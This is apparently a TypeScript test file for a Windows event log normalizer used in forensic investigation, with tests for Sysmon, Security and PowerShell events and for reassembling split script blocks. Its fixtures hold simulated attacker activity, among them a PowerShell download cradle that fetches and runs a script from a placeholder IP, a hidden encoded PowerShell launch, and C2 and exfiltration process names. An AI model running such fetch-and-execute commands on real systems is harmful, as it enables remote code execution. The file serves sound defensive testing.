// The Windows normalizer on events built here: the investigator columns and the
// one-line message for the main Sysmon, Security and PowerShell events, the stored
// record, and script block reassembly.

// biome-ignore lint/style/noRestrictedImports: the test reads the field case in place; the normalizer stays pure
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { fieldCase, fieldCasesSkipReason, hasFieldCases } from '../../test/paths.ts';
import type { WinEvent } from '../formats/windows/event.ts';
import { readWinExport } from '../formats/winexport/reader.ts';
import { normalizeWindows } from './windows.ts';
import { reassembleScriptBlocks, ScriptBlockJoiner } from './windows-powershell.ts';

const NS = "xmlns='http://schemas.microsoft.com/win/2004/08/events/event'";

function event(
  provider: string,
  channel: string,
  id: number,
  data: Record<string, string>,
  record = 1,
  time = '2024-03-01T10:00:00.1234567Z',
): WinEvent {
  const items = Object.entries(data)
    .map(([name, value]) => `<Data Name='${name}'>${value.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</Data>`)
    .join('');
  const xml =
    `<Event ${NS}><System><Provider Name='${provider}'/><EventID>${id}</EventID><TimeCreated SystemTime='${time}'/>` +
    `<EventRecordID>${record}</EventRecordID><Channel>${channel}</Channel><Computer>WKS01.corp.example</Computer>` +
    `<Security UserID='S-1-5-18'/></System><EventData>${items}</EventData></Event>`;
  return readWinExport(xml).events[0]!;
}

const sysmon = (id: number, data: Record<string, string>) =>
  event('Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational', id, data);
const security = (id: number, data: Record<string, string>) => event('Microsoft-Windows-Security-Auditing', 'Security', id, data);

describe('normalizeWindows', () => {
  it('maps Sysmon process creation', () => {
    const unified = normalizeWindows(
      sysmon(1, {
        ProcessGuid: '{11111111-2222-3333-4444-555555555555}',
        ProcessId: '4242',
        Image: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'C:\\Windows\\System32\\cmd.exe /c whoami',
        User: 'CORP\\alice',
        LogonId: '0x3e7',
        Hashes: 'MD5=AA,SHA256=BB,IMPHASH=CC',
        ParentProcessGuid: '{99999999-2222-3333-4444-555555555555}',
        ParentProcessId: '4000',
        ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      }),
    );
    expect(unified).toMatchObject({
      source: 'evtx',
      log: 'Microsoft-Windows-Sysmon/Operational',
      provider: 'Microsoft-Windows-Sysmon',
      event_code: '1',
      category: 'process',
      action: 'process-created',
      host: 'WKS01.corp.example',
      ts_micros: 1709287200123456n,
      ts_nanos: 700,
      ts_note: null,
      process_guid: '{11111111-2222-3333-4444-555555555555}',
      process_pid: 4242,
      process_image: 'C:\\Windows\\System32\\cmd.exe',
      process_command_line: 'C:\\Windows\\System32\\cmd.exe /c whoami',
      parent_guid: '{99999999-2222-3333-4444-555555555555}',
      parent_pid: 4000,
      parent_image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      user_name: 'alice',
      user_domain: 'CORP',
      user_sid: null,
      logon_id: '0x3e7',
      file_hash: 'BB',
    });
    expect(unified.message).toBe('Process created: C:\\Windows\\System32\\cmd.exe /c whoami (parent powershell.exe, user CORP\\alice)');
  });

  it('maps a Sysmon network connection', () => {
    const unified = normalizeWindows(
      sysmon(3, {
        Image: 'C:\\Tools\\beacon.exe',
        ProcessId: '77',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.0.0.5',
        SourcePort: '50123',
        DestinationIp: '192.0.2.7',
        DestinationHostname: 'c2.example',
        DestinationPort: '443',
      }),
    );
    expect(unified).toMatchObject({
      category: 'network',
      protocol: 'tcp',
      src_ip: '10.0.0.5',
      src_port: 50123,
      dst_ip: '192.0.2.7',
      dst_port: 443,
      process_pid: 77,
    });
    expect(unified.message).toBe('Network connection: beacon.exe tcp 10.0.0.5:50123 -> 192.0.2.7:443 (host c2.example, outbound)');
  });

  it('maps a Sysmon DNS query with its answers', () => {
    const unified = normalizeWindows(
      sysmon(22, {
        Image: 'C:\\Windows\\System32\\svchost.exe',
        QueryName: 'evil.example',
        QueryStatus: '0',
        QueryResults: 'type:  5 cdn.example;::ffff:192.0.2.8;2001:db8::1;',
      }),
    );
    expect(unified.category).toBe('dns');
    expect(unified.dns_query).toBe('evil.example');
    expect(unified.dns_answers).toEqual(['cdn.example', '192.0.2.8', '2001:db8::1']);
    expect(unified.message).toBe('DNS query: evil.example by svchost.exe (answers cdn.example, 192.0.2.8, 2001:db8::1)');
  });

  it('maps a Security network logon', () => {
    const unified = normalizeWindows(
      security(4624, {
        SubjectUserSid: 'S-1-0-0',
        TargetUserSid: 'S-1-5-21-1-2-3-1104',
        TargetUserName: 'alice',
        TargetDomainName: 'CORP',
        TargetLogonId: '0x8f0cd568',
        LogonType: '3',
        AuthenticationPackageName: 'Kerberos',
        WorkstationName: '-',
        IpAddress: '::ffff:192.168.2.5',
        IpPort: '53085',
        ProcessId: '0x0',
        ProcessName: '-',
      }),
    );
    expect(unified).toMatchObject({
      category: 'authentication',
      action: 'logon',
      outcome: 'success',
      user_name: 'alice',
      user_domain: 'CORP',
      user_sid: 'S-1-5-21-1-2-3-1104',
      logon_id: '0x8f0cd568',
      src_ip: '192.168.2.5',
      src_port: 53085,
      process_image: null,
      process_pid: 0,
    });
    expect(unified.message).toBe('Logon type 3 (Network): CORP\\alice (from 192.168.2.5, Kerberos)');
  });

  it('reads the hexadecimal PIDs of 4688', () => {
    const unified = normalizeWindows(
      security(4688, {
        SubjectUserSid: 'S-1-5-18',
        SubjectUserName: 'WKS01$',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x3e7',
        NewProcessId: '0x1a4',
        NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
        TokenElevationType: '%%1936',
        ProcessId: '0x12d8',
        CommandLine: 'whoami /all',
        TargetUserSid: 'S-1-5-21-1-2-3-1104',
        TargetUserName: 'alice',
        TargetDomainName: 'CORP',
        TargetLogonId: '0xc61d9',
        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      }),
    );
    expect(unified).toMatchObject({
      category: 'process',
      process_pid: 420,
      parent_pid: 4824,
      process_image: 'C:\\Windows\\System32\\whoami.exe',
      process_command_line: 'whoami /all',
      parent_image: 'C:\\Windows\\System32\\cmd.exe',
      user_name: 'alice',
      user_domain: 'CORP',
      logon_id: '0xc61d9',
    });
    expect(unified.message).toBe(
      'Process created: whoami /all (image C:\\Windows\\System32\\whoami.exe, parent cmd.exe, user CORP\\alice, creator CORP\\WKS01$)',
    );
  });

  it('maps a cleared Security log from its user data', () => {
    const xml =
      `<Event ${NS}><System><Provider Name='Microsoft-Windows-Eventlog'/><EventID>1102</EventID><TimeCreated SystemTime='2019-11-07T10:34:29.0559196Z'/>` +
      "<EventRecordID>14224</EventRecordID><Channel>Security</Channel><Computer>DC01</Computer></System><UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>" +
      '<SubjectUserSid>S-1-5-21-1-500</SubjectUserSid><SubjectUserName>Administrator</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x50e87</SubjectLogonId></LogFileCleared></UserData></Event>';
    const unified = normalizeWindows(readWinExport(xml).events[0]!);
    expect(unified).toMatchObject({
      category: 'other',
      action: 'log-cleared',
      user_name: 'Administrator',
      user_domain: 'CORP',
      user_sid: 'S-1-5-21-1-500',
      logon_id: '0x50e87',
    });
    expect(unified.message).toBe('Security log cleared by CORP\\Administrator');
    expect(JSON.parse(unified.data).UserData).toEqual({
      LogFileCleared: {
        '@xmlns': 'http://manifests.microsoft.com/win/2004/08/windows/eventlog',
        SubjectUserSid: 'S-1-5-21-1-500',
        SubjectUserName: 'Administrator',
        SubjectDomainName: 'CORP',
        SubjectLogonId: '0x50e87',
      },
    });
  });

  it('maps a 4104 script block part', () => {
    const unified = normalizeWindows(
      event('Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational', 4104, {
        MessageNumber: '2',
        MessageTotal: '3',
        ScriptBlockText: 'X (New-Object Net.WebC\nsecond line',
        ScriptBlockId: '3f1c2d9e-7b55-4a0e-9d7e-5c2b8a1f0e11',
        Path: '',
      }),
    );
    expect(unified.category).toBe('script');
    expect(unified.file_path).toBeNull();
    // The message keeps the start of the script, line breaks shown as \n, so the free-text search finds it.
    expect(unified.message).toBe(
      'Script block (part 2 of 3, id 3f1c2d9e-7b55-4a0e-9d7e-5c2b8a1f0e11): X (New-Object Net.WebC\\nsecond line',
    );
  });

  it('maps a classic 400 from its unnamed data', () => {
    const xml =
      `<Event ${NS}><System><Provider Name='PowerShell'/><EventID Qualifiers='0'>400</EventID><TimeCreated SystemTime='2024-03-01T10:05:00.1234567Z'/>` +
      '<Channel>Windows PowerShell</Channel><Computer>WKS01</Computer></System><EventData><Data>Available</Data><Data>None</Data>' +
      '<Data>\tNewEngineState=Available&#xD;\n\tHostApplication=powershell.exe -nop -w hidden -enc SQBFAFgA&#xD;\n\tEngineVersion=5.1&#xD;\n</Data></EventData></Event>';
    const unified = normalizeWindows(readWinExport(xml).events[0]!);
    expect(unified).toMatchObject({
      category: 'script',
      action: 'engine-started',
      process_command_line: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
    });
    expect(unified.message).toBe('PowerShell engine started (host powershell.exe -nop -w hidden -enc SQBFAFgA)');
    const data = JSON.parse(unified.data);
    expect(Object.keys(data.EventData)).toEqual(['Data[0]', 'Data[1]', 'Data[2]']);
    expect(data.System.Qualifiers).toBe(0);
  });

  it('lists the data of an unmapped event', () => {
    const unified = normalizeWindows(
      event('Some-Provider', 'Application', 9, { A: '1', B: 'two\r\nlines' }, 18446744073709551615n as unknown as number),
    );
    expect(unified.category).toBe('other');
    expect(unified.message).toBe('Some-Provider 9: A=1 B=two lines');
    expect(JSON.parse(unified.data).System).toMatchObject({
      EventRecordID: '18446744073709551615',
      TimeCreated: '2024-03-01T10:00:00.123456700Z',
      Channel: 'Application',
    });
    expect(JSON.parse(unified.data).EventData).toEqual({ A: '1', B: 'two\r\nlines' });
  });

  it('maps object access and policy events', () => {
    const cases: [ReturnType<typeof normalizeWindows>, Partial<ReturnType<typeof normalizeWindows>>][] = [
      [
        normalizeWindows(
          security(4663, {
            SubjectUserName: 'alice',
            SubjectDomainName: 'CORP',
            ObjectType: 'File',
            ObjectName: 'C:\\Users\\alice\\secrets.kdbx',
            AccessMask: '0x1',
            ProcessId: '0x1a4',
            ProcessName: 'C:\\Tools\\exfil.exe',
          }),
        ),
        {
          category: 'file',
          action: 'object-accessed',
          user_name: 'alice',
          process_pid: 0x1a4,
          file_path: 'C:\\Users\\alice\\secrets.kdbx',
          message: 'Object access attempted: File C:\\Users\\alice\\secrets.kdbx (by exfil.exe, user CORP\\alice, access 0x1)',
        },
      ],
      [
        normalizeWindows(
          security(4799, {
            TargetUserName: 'Administrators',
            TargetDomainName: 'Builtin',
            SubjectUserName: 'jbrown',
            SubjectDomainName: 'CORP',
            CallerProcessId: '0x23e8',
            CallerProcessName: 'C:\\Windows\\System32\\net1.exe',
          }),
        ),
        {
          category: 'account',
          user_name: 'jbrown',
          process_image: 'C:\\Windows\\System32\\net1.exe',
          message: 'Local group membership enumerated: Builtin\\Administrators (by CORP\\jbrown, process net1.exe)',
        },
      ],
      [
        normalizeWindows(
          security(4778, {
            AccountName: 'alice',
            AccountDomain: 'CORP',
            LogonID: '0x5d3f1',
            SessionName: 'RDP-Tcp#3',
            ClientName: 'LAPTOP9',
            ClientAddress: '192.0.2.44',
          }),
        ),
        {
          category: 'authentication',
          action: 'session-reconnected',
          src_ip: '192.0.2.44',
          logon_id: '0x5d3f1',
          message: 'Session reconnected: CORP\\alice (client LAPTOP9, from 192.0.2.44, session RDP-Tcp#3)',
        },
      ],
      [
        normalizeWindows(security(4950, { ProfileChanged: 'Private', SettingType: 'Enable Windows Firewall', SettingValue: 'No' })),
        { category: 'network', message: 'Windows Firewall setting changed: Enable Windows Firewall = No (profile Private)' },
      ],
      [
        normalizeWindows(
          sysmon(19, {
            EventType: 'WmiFilterEvent',
            Operation: 'Created',
            User: 'CORP\\alice',
            EventNamespace: ' "root\\\\CimV2"',
            Name: ' "Updater"',
            Query: ' "SELECT * FROM __InstanceModificationEvent WITHIN 60"',
          }),
        ),
        {
          action: 'wmi-filter-created',
          user_name: 'alice',
          message:
            'WMI event filter created: Updater (namespace root\\\\CimV2, query SELECT * FROM __InstanceModificationEvent WITHIN 60, by CORP\\alice)',
        },
      ],
      [
        normalizeWindows(
          event('Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational', 53504, {
            param1: '7008',
            param2: 'DefaultAppDomain',
          }),
        ),
        {
          category: 'script',
          process_pid: 7008,
          message: 'PowerShell IPC listening thread started in process 7008 (AppDomain DefaultAppDomain)',
        },
      ],
    ];
    for (const [unified, expected] of cases) expect(unified).toMatchObject(expected);
  });

  it('notes an event without a time as invalid', () => {
    const xml = `<Event ${NS}><System><Provider Name='X'/><EventID>1</EventID><TimeCreated SystemTime='not a time'/><Channel>Application</Channel></System></Event>`;
    const unified = normalizeWindows(readWinExport(xml).events[0]!);
    expect(unified.ts_micros).toBeNull();
    expect(unified.ts_note).toBe('invalid');
  });
});

describe('reassembleScriptBlocks', () => {
  const part = (record: number, id: string, number: number, total: number, text: string, computer = 'WKS01.corp.example') =>
    JSON.stringify({
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell' } },
          EventID: 4104,
          TimeCreated: { '#attributes': { SystemTime: '2024-03-01T10:20:00.4410000Z' } },
          EventRecordID: record,
          Channel: 'Microsoft-Windows-PowerShell/Operational',
          Computer: computer,
        },
        EventData: { MessageNumber: number, MessageTotal: total, ScriptBlockText: text, ScriptBlockId: id, Path: '' },
      },
    });

  it('joins parts by number, not by arrival order', () => {
    const lines = [
      part(1002, 'aaaa', 2, 3, 'X (New-Object Net.WebC'),
      part(1001, 'aaaa', 1, 3, "$u='http://192.0.2.7/a.ps1'\n$x=1; IE"),
      part(1004, 'bbbb', 2, 2, 'ommand -Raw | Out-Null'),
      part(1003, 'aaaa', 3, 3, 'lient).DownloadString($u)\n'),
      part(1005, 'aaaa', 1, 1, 'Get-Date', 'OTHER-HOST'),
    ].join('\n');
    const blocks = reassembleScriptBlocks(readWinExport(lines).events);
    expect(blocks).toHaveLength(3);
    const [first, second, other] = blocks as [(typeof blocks)[0], (typeof blocks)[0], (typeof blocks)[0]];
    expect(first.text).toBe("$u='http://192.0.2.7/a.ps1'\n$x=1; IEX (New-Object Net.WebClient).DownloadString($u)\n");
    expect(first.complete).toBe(true);
    expect(first.parts.map((p) => [p.number, p.recordId, p.locator])).toEqual([
      [1, '1001', 'line=2'],
      [2, '1002', 'line=1'],
      [3, '1003', 'line=4'],
    ]);
    expect(second).toMatchObject({ scriptBlockId: 'bbbb', total: 2, missing: [1], complete: false });
    expect(second.text).toBe('\n<# part 1 of 2 missing #>\nommand -Raw | Out-Null');
    expect(other).toMatchObject({ computer: 'OTHER-HOST', scriptBlockId: 'aaaa', complete: true, text: 'Get-Date' });
  });
});

describe('ScriptBlockJoiner', () => {
  const part = (record: number, id: string, number: number, total: number, text: string) =>
    JSON.stringify({
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell' } },
          EventID: 4104,
          TimeCreated: { '#attributes': { SystemTime: `2024-03-01T10:20:0${number}.4410000Z` } },
          EventRecordID: record,
          Channel: 'Microsoft-Windows-PowerShell/Operational',
          Computer: 'WKS01.corp.example',
        },
        EventData: { MessageNumber: number, MessageTotal: total, ScriptBlockText: text, ScriptBlockId: id, Path: 'C:\\t\\a.ps1' },
      },
    });
  const other = JSON.stringify({
    Event: {
      System: { Provider: { '#attributes': { Name: 'X' } }, EventID: 1, EventRecordID: 2000, Channel: 'Application', Computer: 'WKS01' },
    },
  });

  it('holds parts until the block is whole', () => {
    const events = readWinExport(
      [
        part(1002, 'aaaa', 2, 3, 'X (New-Object Net.WebC'),
        other,
        part(1001, 'aaaa', 1, 3, "$u='http://192.0.2.7/a.ps1'\n$x=1; IE"),
        part(1003, 'aaaa', 3, 3, 'lient).DownloadString($u)'),
      ].join('\n'),
    ).events;
    const joiner = new ScriptBlockJoiner();
    expect(joiner.push(events[0]!)).toEqual([]);
    expect(joiner.push(events[1]!)).toEqual([{ event: events[1] }]);
    expect(joiner.push(events[2]!)).toEqual([]);
    const released = joiner.push(events[3]!);
    expect(released.map((joined) => joined.event.system.recordId)).toEqual([1002n, 1001n, 1003n]);
    const carrier = released[1]!.scriptBlock!;
    expect(carrier.text).toBe("$u='http://192.0.2.7/a.ps1'\n$x=1; IEX (New-Object Net.WebClient).DownloadString($u)");
    expect(carrier.parts.map((p) => p.recordId)).toEqual(['1001', '1002', '1003']);
    expect(released[0]!.scriptBlock!.text).toBeUndefined();
    expect(released[2]!.scriptBlock!.complete).toBe(true);
    expect(joiner.end()).toEqual([]);
  });

  it('releases an incomplete block at the end', () => {
    const events = readWinExport(
      [part(1004, 'bbbb', 2, 2, 'ommand -Raw | Out-Null'), part(1005, 'cccc', 1, 1, 'Get-Date')].join('\n'),
    ).events;
    const joiner = new ScriptBlockJoiner();
    expect(joiner.push(events[0]!)).toEqual([]);
    expect(joiner.push(events[1]!)).toEqual([{ event: events[1] }]);
    const [only] = joiner.end();
    expect(only!.scriptBlock).toMatchObject({ id: 'bbbb', total: 2, missing: [1], complete: false });
    expect(only!.scriptBlock!.text).toBe('\n<# part 1 of 2 missing #>\nommand -Raw | Out-Null');
  });

  it('stores the whole script in the first part', () => {
    const events = readWinExport(
      [part(1001, 'aaaa', 1, 2, 'Invoke-Web'), part(1002, 'aaaa', 2, 2, "Request -Uri 'http://192.0.2.7/x'")].join('\n'),
    ).events;
    const joiner = new ScriptBlockJoiner();
    const joined = [...joiner.push(events[0]!), ...joiner.push(events[1]!)];
    const [first, second] = joined.map(({ event, scriptBlock }) => normalizeWindows(event, scriptBlock ? { scriptBlock } : {}));
    expect(first!.message).toBe("Script block (part 1 of 2, id aaaa, reassembled): Invoke-WebRequest -Uri 'http://192.0.2.7/x'");
    expect(second!.message).toBe("Script block (part 2 of 2, id aaaa): Request -Uri 'http://192.0.2.7/x'");
    const firstData = JSON.parse(first!.data);
    expect(firstData.ScriptBlock.Text).toBe("Invoke-WebRequest -Uri 'http://192.0.2.7/x'");
    expect(firstData.ScriptBlock.Parts).toEqual([
      { Number: 1, EventRecordID: '1001', Locator: 'line=1' },
      { Number: 2, EventRecordID: '1002', Locator: 'line=2' },
    ]);
    const secondData = JSON.parse(second!.data);
    expect(secondData.ScriptBlock.Text).toBeUndefined();
    expect(secondData.ScriptBlock.Id).toBe('aaaa');
  });
});

describe.skipIf(!hasFieldCases)('script block field case', () => {
  if (!hasFieldCases) it.skip(fieldCasesSkipReason, () => {});

  it('joins the download cradle split over three parts', () => {
    const events = readWinExport(readFileSync(fieldCase('B13_ps4104_split_script_blocks.jsonl'), 'utf8')).events;
    const blocks = reassembleScriptBlocks(events);
    const cradle = blocks.find((block) => block.scriptBlockId === '3f1c2d9e-7b55-4a0e-9d7e-5c2b8a1f0e11')!;
    expect(cradle.complete).toBe(true);
    expect(cradle.text).toContain('IEX (New-Object Net.WebClient).DownloadString($u)');
    expect(cradle.parts.map((p) => p.recordId)).toEqual(['1001', '1002', '1003']);
    const partial = blocks.find((block) => block.scriptBlockId === 'c0ffee00-1111-4222-8333-944455566677')!;
    expect(partial).toMatchObject({ complete: false, missing: [1], total: 2 });
    expect(partial.text).toContain('ommand -Raw | Out-Null');
    expect(blocks.find((block) => block.scriptBlockId === '9a9a9a9a-0000-4000-8000-000000000001')).toMatchObject({
      complete: true,
      text: 'Get-Date',
    });
  });
});
